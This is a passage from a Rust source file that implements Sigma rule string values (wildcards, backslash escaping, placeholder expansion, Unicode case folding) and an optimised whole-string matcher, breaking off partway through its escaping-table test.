//! Sigma string values: wildcards, escaping and case-insensitive matching.
//!
//! # Wildcards
//!
//! A string value in a Sigma detection is a *pattern* that must match the **whole** field
//! value (there is no implicit substring search; the `contains`, `startswith` and `endswith`
//! modifiers add the wildcards that make it one):
//!
//! * `*` matches any run of characters, including the empty run and line breaks;
//! * `?` matches exactly one character (one Unicode scalar value, so `?` matches `é` or `😀`
//!   as a single character, and also a line break);
//! * every other character matches itself.
//!
//! # Escaping
//!
//! The backslash `\` escapes **only** `*`, `?` and `\` itself (the rules of the Sigma
//! specification and of pySigma's `SigmaString`). A backslash in front of any other character
//! is an ordinary character, so Windows paths can be written without doubling backslashes.
//! Escapes are interpreted on the value *after* YAML unquoting; Sigma itself knows no `\n` or
//! `\t` escape (a YAML double-quoted string may produce such characters before Sigma sees the
//! value).
//!
//! | value (after YAML)    | meaning                                    |
//! |-----------------------|--------------------------------------------|
//! | `a*b` / `a?b`         | `a`, wildcard, `b`                         |
//! | `a\*b` / `a\?b`       | the literal text `a*b` / `a?b`             |
//! | `C:\Windows\System32` | literal, both backslashes kept             |
//! | `a\\b`                | `a\b` (one backslash)                      |
//! | `a\\\b`               | `a\\b` (`\\` gives `\`, then `\b` is kept) |
//! | `a\\\\b`              | `a\\b`                                     |
//! | `\\*`                 | a backslash followed by the `*` wildcard   |
//! | `\\\*`                | the literal text `\*`                      |
//! | `abc\`                | `abc\` (a trailing lone backslash is kept) |
//! | `a\nb`                | backslash + `n`, not a line break          |
//!
//! Watch out for a backslash right before a wildcard: `C:\Windows\*` is the literal text
//! `C:\Windows*` (the `\*` is an escaped star); a directory prefix is written `C:\Windows\\*`
//! or, better, with `|startswith: 'C:\Windows\'`.
//!
//! The `Display` form of a [`SigmaString`] escapes again: literal `*` and `?` as `\*` and `\?`,
//! and a literal backslash as `\\` only where it would otherwise be read as an escape (before
//! `*`, `?`, `\` or a wildcard), so that [`SigmaString::parse`] of the displayed text gives back
//! the same value. (pySigma's `to_plain` never escapes backslashes, which loses the difference
//! between `\\*` and `\*`.)
//!
//! # Placeholders (`expand`)
//!
//! Only after the `expand` modifier, `%name%` (a name of Unicode letters, digits and `_`) in the
//! text becomes a placeholder that a processing pipeline replaces by the values of a variable;
//! several values make an OR of alternatives. `\%` stops a `%` from opening a placeholder and is
//! turned into a plain `%`. Replacement values are themselves Sigma strings, so wildcards in
//! them are wildcards (as in pySigma's `value_placeholders` transformation). Without `expand`,
//! `%name%` is plain text.
//!
//! # Case
//!
//! Matching is case-insensitive unless the `cased` modifier is used. Both sides are compared in
//! lower case, **one character at a time** (so `?` still matches exactly one character): a
//! character is replaced by the first character of its Unicode lowercase mapping, and the final
//! sigma `ς` is treated as `σ`. Consequences:
//!
//! * `É` matches `é`, `Ä` matches `ä`, `Σ` matches `σ` and `ς`, `K` (Kelvin sign) matches `k`;
//! * `İ` (capital I with dot above) compares as `i`, so `İstanbul` matches `istanbul`, but a
//!   dotless `ı` only matches `ı` (and `I` only matches `i`/`I`): no Turkish locale rules;
//! * `ß` does not match `ss` (and `ẞ` matches `ß`): no multi-character folding.

use std::fmt;

/// Upper bound on the number of alternatives an expansion (placeholder replacement, windash)
/// may produce; beyond it the value is rejected (or, for windash, approximated) rather than
/// exhausting memory.
pub const MAX_EXPANSIONS: usize = 65_536;

/// One piece of a [`SigmaString`].
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum Part {
    /// Literal text (already unescaped).
    Lit(String),
    /// `*`: any run of characters, possibly empty.
    AnyRun,
    /// `?`: exactly one character.
    AnyChar,
    /// `%name%` after the `expand` modifier.
    Placeholder(String),
}

/// A parsed Sigma string value: literal text, wildcards and placeholders.
///
/// Invariant kept by every constructor of this module: no empty [`Part::Lit`] and no two
/// adjacent `Lit` parts (they are merged). Code that builds `parts` by hand should go through
/// [`SigmaString::from_parts`]; the matcher copes with unnormalised parts anyway.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Default)]
pub struct SigmaString {
    pub parts: Vec<Part>,
}

/// Errors of placeholder handling and matcher construction.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum PatternError {
    /// A matcher was requested for a value that still contains a placeholder.
    #[error(
        "placeholder %{0}% is not resolved: the value uses the `expand` modifier but no \
         pipeline replaced the placeholder"
    )]
    UnresolvedPlaceholder(String),
    /// No values are known for a placeholder.
    #[error("unknown placeholder %{0}%: no variable of that name is defined (give a pipeline with `vars`, e.g. --pipeline)")]
    UnknownPlaceholder(String),
    /// Replacing the placeholders would produce too many alternatives.
    #[error(
        "placeholder replacement would produce {count} alternative values, more than the \
         limit of {limit}"
    )]
    TooManyExpansions { count: usize, limit: usize },
}

/// Appends a part, keeping the invariant (no empty literal, adjacent literals merged).
fn push_part(parts: &mut Vec<Part>, part: Part) {
    match part {
        Part::Lit(s) if s.is_empty() => {}
        Part::Lit(s) => match parts.last_mut() {
            Some(Part::Lit(last)) => last.push_str(&s),
            _ => parts.push(Part::Lit(s)),
        },
        other => parts.push(other),
    }
}

/// Word character as in Python's Unicode `\w`: letters, digits and `_`.
pub(crate) fn is_word_char(c: char) -> bool {
    c.is_alphanumeric() || c == '_'
}

impl SigmaString {
    /// Parses a raw value with the Sigma escaping rules (see the module documentation).
    pub fn parse(raw: &str) -> SigmaString {
        let mut parts = Vec::new();
        let mut acc = String::new();
        let mut escaped = false;
        for c in raw.chars() {
            if escaped {
                if !matches!(c, '*' | '?' | '\\') {
                    acc.push('\\');
                }
                acc.push(c);
                escaped = false;
            } else if c == '\\' {
                escaped = true;
            } else if c == '*' || c == '?' {
                push_part(&mut parts, Part::Lit(std::mem::take(&mut acc)));
                parts.push(if c == '*' {
                    Part::AnyRun
                } else {
                    Part::AnyChar
                });
            } else {
                acc.push(c);
            }
        }
        if escaped {
            acc.push('\\');
        }
        push_part(&mut parts, Part::Lit(acc));
        SigmaString { parts }
    }

    /// A string that is all literal text: no wildcard or escape interpretation.
    pub fn literal(text: &str) -> SigmaString {
        SigmaString::from_parts(vec![Part::Lit(text.to_owned())])
    }

    /// Builds a string from parts, dropping empty literals and merging adjacent ones.
    pub fn from_parts(parts: impl IntoIterator<Item = Part>) -> SigmaString {
        let mut out = Vec::new();
        for part in parts {
            push_part(&mut out, part);
        }
        SigmaString { parts: out }
    }

    /// True for the empty string (no parts at all).
    pub fn is_empty(&self) -> bool {
        self.parts
            .iter()
            .all(|p| matches!(p, Part::Lit(s) if s.is_empty()))
    }

    /// True if the value contains a `*` or `?` wildcard.
    pub fn has_wildcards(&self) -> bool {
        self.parts
            .iter()
            .any(|p| matches!(p, Part::AnyRun | Part::AnyChar))
    }

    /// True if the value contains a placeholder.
    pub fn has_placeholders(&self) -> bool {
        self.parts.iter().any(|p| matches!(p, Part::Placeholder(_)))
    }

    /// The text of the value if it has neither wildcards nor placeholders.
    pub fn plain(&self) -> Option<String> {
        let mut out = String::new();
        for part in &self.parts {
            match part {
                Part::Lit(s) => out.push_str(s),
                _ => return None,
            }
        }
        Some(out)
    }

    /// True if the first part is the `*` wildcard.
    pub fn starts_with_any(&self) -> bool {
        matches!(self.parts.first(), Some(Part::AnyRun))
    }

    /// True if the last part is the `*` wildcard.
    pub fn ends_with_any(&self) -> bool {
        matches!(self.parts.last(), Some(Part::AnyRun))
    }

    /// The `contains` modifier: `*value*`, without doubling a `*` that is already there.
    /// The empty string becomes `*`.
    pub fn contains(self) -> SigmaString {
        self.endswith().startswith()
    }

    /// The `startswith` modifier: appends `*` unless the value already ends with one.
    pub fn startswith(mut self) -> SigmaString {
        if !self.ends_with_any() {
            self.parts.push(Part::AnyRun);
        }
        self
    }

    /// The `endswith` modifier: prepends `*` unless the value already starts with one.
    pub fn endswith(mut self) -> SigmaString {
        if !self.starts_with_any() {
            self.parts.insert(0, Part::AnyRun);
        }
        self
    }

    /// The `expand` modifier: `%name%` in literal text becomes [`Part::Placeholder`]; a `%`
    /// preceded by a backslash opens no placeholder, and `\%` becomes `%`.
    ///
    /// Follows pySigma: the regex `(?<!\\)%(\w+)%` is applied to each literal part on its own.
    pub fn expand_placeholders(self) -> SigmaString {
        let mut out = Vec::new();
        for part in self.parts {
            match part {
                Part::Lit(text) => expand_literal(&text, &mut out),
                other => out.push(other),
            }
        }
        SigmaString { parts: out }
    }

    /// Names of the placeholders, each once, in order of first appearance.
    pub fn placeholders(&self) -> Vec<&str> {
        let mut names: Vec<&str> = Vec::new();
        for part in &self.parts {
            if let Part::Placeholder(name) = part {
                if !names.contains(&name.as_str()) {
                    names.push(name);
                }
            }
        }
        names
    }

    /// Replaces every placeholder by each of its values (parsed as Sigma strings, so `*` and `?`
    /// in them are wildcards) and returns all combinations, in pySigma's order (the first
    /// placeholder varies slowest). A string without placeholders gives itself. A placeholder
    /// with an empty list of values gives no strings at all (the value matches nothing).
    ///
    /// Errors: `values` returns `None` for a name ([`PatternError::UnknownPlaceholder`]), or the
    /// number of combinations exceeds [`MAX_EXPANSIONS`].
    pub fn replace_placeholders(
        &self,
        values: &dyn Fn(&str) -> Option<Vec<String>>,
    ) -> Result<Vec<SigmaString>, PatternError> {
        if !self.has_placeholders() {
            return Ok(vec![self.clone()]);
        }
        let mut resolved: Vec<(&str, Vec<SigmaString>)> = Vec::new();
        let mut count: usize = 1;
        for part in &self.parts {
            if let Part::Placeholder(name) = part {
                let alternatives = match resolved.iter().find(|(n, _)| *n == name.as_str()) {
                    Some((_, alts)) => alts.len(),
                    None => {
                        let vals = values(name)
                            .ok_or_else(|| PatternError::UnknownPlaceholder(name.clone()))?;
                        let alts: Vec<SigmaString> =
                            vals.iter().map(|v| SigmaString::parse(v)).collect();
                        let n = alts.len();
                        resolved.push((name, alts));
                        n
                    }
                };
                count = count.saturating_mul(alternatives);
            }
        }
        if count == 0 {
            // A placeholder without values: nothing can match (and nothing needs building).
            return Ok(Vec::new());
        }
        if count > MAX_EXPANSIONS {
            return Err(PatternError::TooManyExpansions {
                count,
                limit: MAX_EXPANSIONS,
            });
        }
        let mut results: Vec<Vec<Part>> = vec![Vec::new()];
        for part in &self.parts {
            match part {
                Part::Placeholder(name) => {
                    let alts = resolved
                        .iter()
                        .find(|(n, _)| *n == name.as_str())
                        .map(|(_, a)| a.as_slice())
                        .unwrap_or(&[]);
                    let mut next = Vec::with_capacity(results.len() * alts.len());
                    for prefix in &results {
                        for alt in alts {
                            let mut v = prefix.clone();
                            for p in &alt.parts {
                                push_part(&mut v, p.clone());
                            }
                            next.push(v);
                        }
                    }
                    results = next;
                }
                other => {
                    for v in &mut results {
                        push_part(v, other.clone());
                    }
                }
            }
        }
        Ok(results
            .into_iter()
            .map(|parts| SigmaString { parts })
            .collect())
    }

    /// Applies `f` to the text of every literal part (wildcards and placeholders are kept).
    pub fn map_literals(&self, f: impl Fn(&str) -> String) -> SigmaString {
        SigmaString::from_parts(self.parts.iter().map(|p| match p {
            Part::Lit(s) => Part::Lit(f(s)),
            other => other.clone(),
        }))
    }

    /// The longest literal part (in bytes; the first one on ties), as written in the rule (not
    /// case-folded). Every matching text contains it, up to case unless the match is cased.
    pub fn longest_literal(&self) -> Option<&str> {
        let mut best: Option<&str> = None;
        for part in &self.parts {
            if let Part::Lit(s) = part {
                if !s.is_empty() && best.is_none_or(|b| s.len() > b.len()) {
                    best = Some(s);
                }
            }
        }
        best
    }
}

/// `expand` on one literal part (pySigma `insert_placeholders`).
fn expand_literal(text: &str, out: &mut Vec<Part>) {
    let chars: Vec<(usize, char)> = text.char_indices().collect();
    let unescape = |s: &str| s.replace("\\%", "%");
    let mut last = 0usize;
    let mut i = 0usize;
    while i < chars.len() {
        let (start, c) = chars[i];
        let preceded_by_backslash = i > 0 && chars[i - 1].1 == '\\';
        if c == '%' && !preceded_by_backslash {
            let mut j = i + 1;
            while j < chars.len() && is_word_char(chars[j].1) {
                j += 1;
            }
            if j > i + 1 && j < chars.len() && chars[j].1 == '%' {
                let name_start = chars[i + 1].0;
                let end = chars[j].0;
                push_part(out, Part::Lit(unescape(&text[last..start])));
                out.push(Part::Placeholder(text[name_start..end].to_owned()));
                last = end + 1;
                i = j + 1;
                continue;
            }
        }
        i += 1;
    }
    push_part(out, Part::Lit(unescape(&text[last..])));
}

/// One character of the flattened string, for re-escaping.
enum Tok<'a> {
    Char(char),
    Special(&'a Part),
}

impl fmt::Display for SigmaString {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let mut toks = Vec::new();
        for part in &self.parts {
            match part {
                Part::Lit(s) => toks.extend(s.chars().map(Tok::Char)),
                other => toks.push(Tok::Special(other)),
            }
        }
        for (i, tok) in toks.iter().enumerate() {
            match tok {
                Tok::Char('*') => f.write_str("\\*")?,
                Tok::Char('?') => f.write_str("\\?")?,
                Tok::Char('\\') => {
                    let needs_escape = match toks.get(i + 1) {
                        Some(Tok::Char(c)) => matches!(c, '*' | '?' | '\\'),
                        Some(Tok::Special(_)) => true,
                        None => false,
                    };
                    f.write_str(if needs_escape { "\\\\" } else { "\\" })?;
                }
                Tok::Char(c) => write!(f, "{c}")?,
                Tok::Special(Part::AnyRun) => f.write_str("*")?,
                Tok::Special(Part::AnyChar) => f.write_str("?")?,
                Tok::Special(Part::Placeholder(name)) => write!(f, "%{name}%")?,
                Tok::Special(Part::Lit(_)) => {} // literal text is pushed as `Tok::Char`
            }
        }
        Ok(())
    }
}

// ---------------------------------------------------------------------------------------------
// Case folding
// ---------------------------------------------------------------------------------------------

/// Folds one character for case-insensitive comparison: the first character of its lowercase
/// mapping (`İ` -> `i`), and `ς` -> `σ`. Maps every character to exactly one character.
#[inline]
pub fn fold_char(c: char) -> char {
    if c.is_ascii() {
        c.to_ascii_lowercase()
    } else if c == 'ς' {
        'σ'
    } else {
        c.to_lowercase().next().unwrap_or(c)
    }
}

/// Folds a whole string with [`fold_char`].
pub fn fold_str(s: &str) -> String {
    s.chars().map(fold_char).collect()
}

/// The only non-ASCII characters whose fold is ASCII (checked exhaustively by a test):
/// U+0130 `İ` -> `i` and U+212A KELVIN SIGN -> `k`.
#[inline]
fn folds_to_ascii(c: char) -> bool {
    matches!(c, '\u{130}' | '\u{212A}')
}

/// True if `text` contains a character whose fold is ASCII although it is not. A byte pre-scan
/// for the lead bytes of U+0130 (`C4`) and U+212A (`E2`) avoids decoding in the common case.
fn has_ascii_folding(text: &str) -> bool {
    text.as_bytes().iter().any(|&b| b == 0xC4 || b == 0xE2) && text.chars().any(folds_to_ascii)
}

// ---------------------------------------------------------------------------------------------
// Matcher
// ---------------------------------------------------------------------------------------------

/// A compiled matcher for one [`SigmaString`]: whole-string match, case-insensitive unless
/// `cased`.
///
/// Strategy: the pattern is lowered once (folded when case-insensitive) and specialised into
/// exact, prefix (`abc*`), suffix (`*abc`), contains (`*abc*`), match-all (`*`) or a general
/// glob. The glob anchors the part before the first `*` at the start and the part after the last
/// `*` at the end, then finds the pieces in between leftmost-first, which is exact because each
/// piece has a fixed length in characters; no regex and no exponential backtracking.
///
/// Case-insensitive matching works on the raw text bytes (ASCII case-insensitive compare, no
/// allocation) whenever that is exact: when the text is ASCII, or when the folded pattern is
/// ASCII and the text contains no non-ASCII character that folds to ASCII. Otherwise (non-ASCII
/// pattern and non-ASCII text) exact, prefix and suffix patterns compare folded characters on
/// the fly, and contains/glob patterns fold the text into a temporary string.
#[derive(Debug, Clone)]
pub struct StringMatcher {
    cased: bool,
    /// The folded pattern is all ASCII.
    ascii: bool,
    kind: Kind,
}

#[derive(Debug, Clone)]
enum Kind {
    Exact(String),
    Prefix(String),
    Suffix(String),
    Contains(String),
    All,
    Glob(Glob),
}

/// Many case-insensitive `contains` values searched in one pass: Aho-Corasick automata over
/// their folded needles, built once per value list (a SigmaHQ rule may list hundreds of
/// command-line fragments for one field, and `windash` makes five of each; searching each on
/// its own read the text hundreds of times). The same verdict as each
/// [`StringMatcher::is_match`]: an ASCII text is searched ASCII case-insensitively for the
/// ASCII needles (no other can occur in it), any other text is folded and searched for every
/// needle.
#[derive(Debug, Clone)]
pub struct ContainsSet {
    ascii: Option<aho_corasick::AhoCorasick>,
    folded: aho_corasick::AhoCorasick,
}

impl ContainsSet {
    /// The set of the needles of `contains` matchers, from [`StringMatcher::contains_needle`].
    pub fn new(needles: &[&str]) -> Option<ContainsSet> {
        let ascii: Vec<&str> = needles.iter().copied().filter(|n| n.is_ascii()).collect();
        let ascii = if ascii.is_empty() {
            None
        } else {
            Some(
                aho_corasick::AhoCorasickBuilder::new()
                    .ascii_case_insensitive(true)
                    .build(&ascii)
                    .ok()?,
            )
        };
        let folded = aho_corasick::AhoCorasick::new(needles).ok()?;
        Some(ContainsSet { ascii, folded })
    }

    /// Whether some needle occurs in `text`.
    pub fn is_match(&self, text: &str) -> bool {
        if text.is_ascii() {
            self.ascii.as_ref().is_some_and(|a| a.is_match(text))
        } else {
            self.folded.is_match(&fold_str(text))
        }
    }
}

/// General pattern: `segs[0]` `*` `segs[1]` `*` ... `*` `segs[n]`. With no `*` there is a
/// single segment that must cover the whole text.
#[derive(Debug, Clone)]
struct Glob {
    segs: Vec<Vec<Item>>,
}

#[derive(Debug, Clone)]
enum Item {
    Lit(String),
    /// `n` consecutive `?`.
    AnyChars(usize),
}

impl StringMatcher {
    /// Compiles a matcher. Fails if the value still contains a placeholder.
    pub fn new(s: &SigmaString, cased: bool) -> Result<StringMatcher, PatternError> {
        // Segments between stars; `cur` is the one being built.
        let mut segs: Vec<Vec<Item>> = Vec::new();
        let mut cur: Vec<Item> = Vec::new();
        for part in &s.parts {
            match part {
                Part::Lit(text) => {
                    if text.is_empty() {
                        continue;
                    }
                    let text = if cased { text.clone() } else { fold_str(text) };
                    match cur.last_mut() {
                        Some(Item::Lit(l)) => l.push_str(&text),
                        _ => cur.push(Item::Lit(text)),
                    }
                }
                Part::AnyChar => match cur.last_mut() {
                    Some(Item::AnyChars(n)) => *n = n.saturating_add(1),
                    _ => cur.push(Item::AnyChars(1)),
                },
                Part::AnyRun => {
                    // `**` is the same as `*`: an empty segment between two stars is skipped.
                    if !cur.is_empty() || segs.is_empty() {
                        segs.push(std::mem::take(&mut cur));
                    }
                }
                Part::Placeholder(name) => {
                    return Err(PatternError::UnresolvedPlaceholder(name.clone()));
                }
            }
        }
        segs.push(cur);
        let ascii = segs.iter().flatten().all(|item| match item {
            Item::Lit(l) => l.is_ascii(),
            Item::AnyChars(_) => true,
        });
        let kind = classify(segs);
        Ok(StringMatcher { cased, ascii, kind })
    }

    /// True if the pattern matches the whole of `text`.
    pub fn is_match(&self, text: &str) -> bool {
        if self.cased || text.is_ascii() {
            return self.kind.matches(text, !self.cased);
        }
        if self.ascii && !has_ascii_folding(text) {
            return self.kind.matches(text, true);
        }
        // Non-ASCII pattern (or a text character folding to ASCII): compare folded characters.
        match &self.kind {
            Kind::All => true,
            Kind::Exact(p) => text.chars().map(fold_char).eq(p.chars()),
            Kind::Prefix(p) => {
                let mut t = text.chars().map(fold_char);
                p.chars().all(|pc| t.next() == Some(pc))
            }
            Kind::Suffix(p) => {
                let mut t = text.chars().rev().map(fold_char);
                p.chars().rev().all(|pc| t.next() == Some(pc))
            }
            Kind::Contains(_) | Kind::Glob(_) => {
                let folded = fold_str(text);
                self.kind.matches(&folded, false)
            }
        }
    }

    /// The folded needle of a case-insensitive `contains` matcher (`*needle*`): what a
    /// [`ContainsSet`] searches for it.
    pub fn contains_needle(&self) -> Option<&str> {
        match &self.kind {
            Kind::Contains(p) if !self.cased => Some(p),
            _ => None,
        }
    }

    /// True for a pattern that matches every string (`*`).
    pub fn matches_everything(&self) -> bool {
        matches!(self.kind, Kind::All)
    }

    /// True if the match is case-sensitive.
    pub fn is_cased(&self) -> bool {
        self.cased
    }

    /// Matcher that always uses the general glob algorithm (for cross-checking in tests).
    #[cfg(test)]
    fn new_glob_only(s: &SigmaString, cased: bool) -> Result<StringMatcher, PatternError> {
        let mut m = StringMatcher::new(s, cased)?;
        m.kind = match m.kind {
            Kind::Exact(p) => Kind::Glob(Glob {
                segs: vec![lit_seg(p)],
            }),
            Kind::Prefix(p) => Kind::Glob(Glob {
                segs: vec![lit_seg(p), Vec::new()],
            }),
            Kind::Suffix(p) => Kind::Glob(Glob {
                segs: vec![Vec::new(), lit_seg(p)],
            }),
            Kind::Contains(p) => Kind::Glob(Glob {
                segs: vec![Vec::new(), lit_seg(p), Vec::new()],
            }),
            Kind::All => Kind::Glob(Glob {
                segs: vec![Vec::new(), Vec::new()],
            }),
            g => g,
        };
        Ok(m)
    }
}

#[cfg(test)]
fn lit_seg(p: String) -> Vec<Item> {
    if p.is_empty() {
        Vec::new()
    } else {
        vec![Item::Lit(p)]
    }
}

/// A segment that is one literal (or nothing).
fn single_lit(seg: &[Item]) -> Option<&str> {
    match seg {
        [] => Some(""),
        [Item::Lit(l)] => Some(l),
        _ => None,
    }
}

fn classify(segs: Vec<Vec<Item>>) -> Kind {
    let lits: Vec<Option<&str>> = segs.iter().map(|s| single_lit(s)).collect();
    let kind = match lits.as_slice() {
        [Some(p)] => Some(Kind::Exact((*p).to_owned())),
        [Some(""), Some("")] => Some(Kind::All),
        [Some(p), Some("")] => Some(Kind::Prefix((*p).to_owned())),
        [Some(""), Some(s)] => Some(Kind::Suffix((*s).to_owned())),
        [Some(""), Some(c), Some("")] => Some(Kind::Contains((*c).to_owned())),
        _ => None,
    };
    kind.unwrap_or(Kind::Glob(Glob { segs }))
}

impl Kind {
    /// Matches on the raw bytes of `text`. With `ci`, text bytes are ASCII-lowercased before
    /// comparison with the (folded) pattern; the caller guarantees that this is exact.
    #[inline]
    fn matches(&self, text: &str, ci: bool) -> bool {
        if ci {
            self.matches_bytes::<true>(text)
        } else {
            self.matches_bytes::<false>(text)
        }
    }

    fn matches_bytes<const CI: bool>(&self, text: &str) -> bool {
        let t = text.as_bytes();
        match self {
            Kind::All => true,
            Kind::Exact(p) => t.len() == p.len() && eq_bytes::<CI>(t, p.as_bytes()),
            Kind::Prefix(p) => t
                .get(..p.len())
                .is_some_and(|h| eq_bytes::<CI>(h, p.as_bytes())),
            Kind::Suffix(p) => t
                .len()
                .checked_sub(p.len())
                .and_then(|start| t.get(start..))
                .is_some_and(|h| eq_bytes::<CI>(h, p.as_bytes())),
            Kind::Contains(p) => find_lit::<CI>(text, 0, t.len(), p).is_some(),
            Kind::Glob(g) => g.matches::<CI>(text),
        }
    }
}

impl Glob {
    fn matches<const CI: bool>(&self, text: &str) -> bool {
        let t = text.as_bytes();
        let Some((first, rest)) = self.segs.split_first() else {
            return t.is_empty();
        };
        let Some((last, middle)) = rest.split_last() else {
            // No `*`: the single segment must cover the whole text.
            return match_forward::<CI>(t, 0, t.len(), first) == Some(t.len());
        };
        let Some(mut pos) = match_forward::<CI>(t, 0, t.len(), first) else {
            return false;
        };
        let Some(limit) = match_backward::<CI>(t, t.len(), pos, last) else {
            return false;
        };
        for seg in middle {
            match find_segment::<CI>(text, pos, limit, seg) {
                Some(end) => pos = end,
                None => return false,
            }
        }
        true
    }
}

#[inline(always)]
fn eq_byte<const CI: bool>(pattern: u8, text: u8) -> bool {
    if CI {
        pattern == text.to_ascii_lowercase()
    } else {
        pattern == text
    }
}

#[inline]
fn eq_bytes<const CI: bool>(text: &[u8], pattern: &[u8]) -> bool {
    text.len() == pattern.len() && text.iter().zip(pattern).all(|(&t, &p)| eq_byte::<CI>(p, t))
}

#[inline(always)]
fn is_continuation(b: u8) -> bool {
    (b & 0xC0) == 0x80
}

#[inline]
fn is_boundary(t: &[u8], i: usize) -> bool {
    i == t.len() || t.get(i).is_some_and(|&b| !is_continuation(b))
}

/// Index of the next character boundary after the one at `i`.
#[inline]
fn next_boundary(t: &[u8], i: usize) -> usize {
    let mut j = i + 1;
    while j < t.len() && is_continuation(t[j]) {
        j += 1;
    }
    j
}

/// Index of the character boundary before `i` (`i > 0`).
#[inline]
fn prev_boundary(t: &[u8], i: usize) -> usize {
    let mut j = i - 1;
    while j > 0 && is_continuation(t[j]) {
        j -= 1;
    }
    j
}

/// Leftmost occurrence of `needle` in `text[from..to]` (absolute start index).
fn find_lit<const CI: bool>(text: &str, from: usize, to: usize, needle: &str) -> Option<usize> {
    if CI {
        match find_ascii_ci(text.as_bytes().get(from..to)?, needle.as_bytes()) {
            Ok(found) => found.map(|i| i + from),
            // Degenerate input (many near-matches): lowercase a copy and use the linear-time
            // search of `str::find`. ASCII lowercasing keeps the text valid UTF-8 and, on the
            // paths that use CI, equals folding as far as the needle can tell.
            Err(BudgetExhausted) => text
                .get(from..to)?
                .to_ascii_lowercase()
                .find(needle)
                .map(|i| i + from),
        }
    } else {
        text.get(from..to)?.find(needle).map(|i| i + from)
    }
}

/// The naive search did too much work.
struct BudgetExhausted;

/// How common a byte is in the texts Sigma rules search (paths, command lines, URLs): the
/// searcher looks for the needle's least common byte, so that SIMD `memchr` skips most of the
/// haystack and few candidates need checking.
fn commonness(b: u8) -> u8 {
    COMMONNESS[usize::from(b)]
}

const COMMONNESS: [u8; 256] = {
    let mut table = [0u8; 256];
    let mut b = 0;
    while b < 256 {
        table[b] = commonness_of(b as u8);
        b += 1;
    }
    table
};

const fn commonness_of(b: u8) -> u8 {
    match b.to_ascii_lowercase() {
        b'\\' | b' ' | b'.' | b'-' | b'/' | b':' | b'"' | b'=' | b',' | b'_' => 255,
        b'e' | b't' | b'a' | b'o' | b'i' | b'n' | b's' | b'r' => 200,
        b'l' | b'c' | b'd' | b'h' | b'u' | b'm' | b'p' | b'0' | b'1' => 150,
        b'2'..=b'9' | b'f' | b'g' | b'w' | b'y' | b'b' => 100,
        _ => 50,
    }
}

/// Search of an already-lowercase needle in a haystack compared ASCII-case-insensitively,
/// without allocation: SIMD `memchr2` finds the needle's least common byte in either case,
/// then each candidate is compared. Gives up after a few byte comparisons per haystack byte
/// (a degenerate haystack of near-matches), so that the caller can switch to a linear-time
/// search.
fn find_ascii_ci(hay: &[u8], needle: &[u8]) -> Result<Option<usize>, BudgetExhausted> {
    if needle.is_empty() {
        return Ok(Some(0));
    }
    let Some(last_start) = hay.len().checked_sub(needle.len()) else {
        return Ok(None);
    };
    let (k, &rare) = needle
        .iter()
        .enumerate()
        .min_by_key(|(_, &b)| commonness(b))
        .unwrap_or((0, &needle[0]));
    let (lower, upper) = (rare, rare.to_ascii_uppercase());
    // The rare byte of a match starting at `s` is at `s + k`, `s` in `0..=last_start`.
    let window = &hay[k..=last_start + k];
    let mut budget = hay.len().saturating_mul(4).max(256);
    for at in memchr::memchr2_iter(lower, upper, window) {
        if eq_bytes::<true>(&hay[at..at + needle.len()], needle) {
            return Ok(Some(at));
        }
        budget = budget.checked_sub(needle.len()).ok_or(BudgetExhausted)?;
    }
    Ok(None)
}

/// Matches `seg` starting at `at`, not going past `end`; returns the end of the match.
fn match_forward<const CI: bool>(
    t: &[u8],
    mut at: usize,
    end: usize,
    seg: &[Item],
) -> Option<usize> {
    for item in seg {
        match item {
            Item::Lit(l) => {
                let stop = at.checked_add(l.len())?;
                if stop > end || !eq_bytes::<CI>(t.get(at..stop)?, l.as_bytes()) {
                    return None;
                }
                at = stop;
            }
            Item::AnyChars(n) => {
                for _ in 0..*n {
                    if at >= end {
                        return None;
                    }
                    at = next_boundary(t, at);
                }
                if at > end {
                    return None;
                }
            }
        }
    }
    Some(at)
}

/// Matches `seg` ending at `end`, not going before `floor`; returns the start of the match.
fn match_backward<const CI: bool>(
    t: &[u8],
    mut end: usize,
    floor: usize,
    seg: &[Item],
) -> Option<usize> {
    for item in seg.iter().rev() {
        match item {
            Item::Lit(l) => {
                let start = end.checked_sub(l.len())?;
                if start < floor || !eq_bytes::<CI>(t.get(start..end)?, l.as_bytes()) {
                    return None;
                }
                end = start;
            }
            Item::AnyChars(n) => {
                for _ in 0..*n {
                    if end <= floor {
                        return None;
                    }
                    end = prev_boundary(t, end);
                }
                if end < floor {
                    return None;
                }
            }
        }
    }
    Some(end)
}

/// Leftmost match of a floating segment inside `text[from..to]`; returns its end.
fn find_segment<const CI: bool>(text: &str, from: usize, to: usize, seg: &[Item]) -> Option<usize> {
    let t = text.as_bytes();
    match seg.first() {
        Some(Item::Lit(l)) => {
            let mut pos = from;
            while pos <= to {
                let start = find_lit::<CI>(text, pos, to, l)?;
                if let Some(end) = match_forward::<CI>(t, start, to, seg) {
                    return Some(end);
                }
                pos = next_boundary(t, start);
            }
            None
        }
        _ => {
            let mut pos = from;
            while pos <= to {
                if is_boundary(t, pos) {
                    if let Some(end) = match_forward::<CI>(t, pos, to, seg) {
                        return Some(end);
                    }
                }
                pos += 1;
            }
            None
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lit(s: &str) -> Part {
        Part::Lit(s.to_owned())
    }

    fn m(pattern: &str, text: &str) -> bool {
        StringMatcher::new(&SigmaString::parse(pattern), false)
            .unwrap()
            .is_match(text)
    }

    fn mc(pattern: &str, text: &str) -> bool {
        StringMatcher::new(&SigmaString::parse(pattern), true)
            .unwrap()
            .is_match(text)
    }

    /// Every row of the escaping table (research notes §3).
    #[test]
    fn escaping_table() {
        use Part::{AnyChar, AnyRun};
        let rows: Vec<(&str, Vec<Part>)> = vec![
            ("a*b", vec![lit("a"), AnyRun, lit("b")]),
            ("a?b", vec![lit("a"), AnyChar, lit("b")]),
            ("a\\*b", vec![lit("a*b")]),
            ("a\\?b", vec![lit("a?b")]),
            ("C:\\Windows\\System32", vec![lit("C:\\Windows\\System32")]),
            ("a\\\\b", vec![lit("a\\b")]),
            ("a\\\\\\b", vec![lit("a\\\\b")]),
            ("a\\\\\\\\b", vec![lit("a\\\\b")]),
            ("\\\\*", vec![lit("\\"), AnyRun]),
            ("\\\\\\*", vec![lit("\\*")]),
            ("\\\\\\\\*", vec![lit("\\\\"), AnyRun]),
            ("abc\\", vec![lit("abc\\")]),
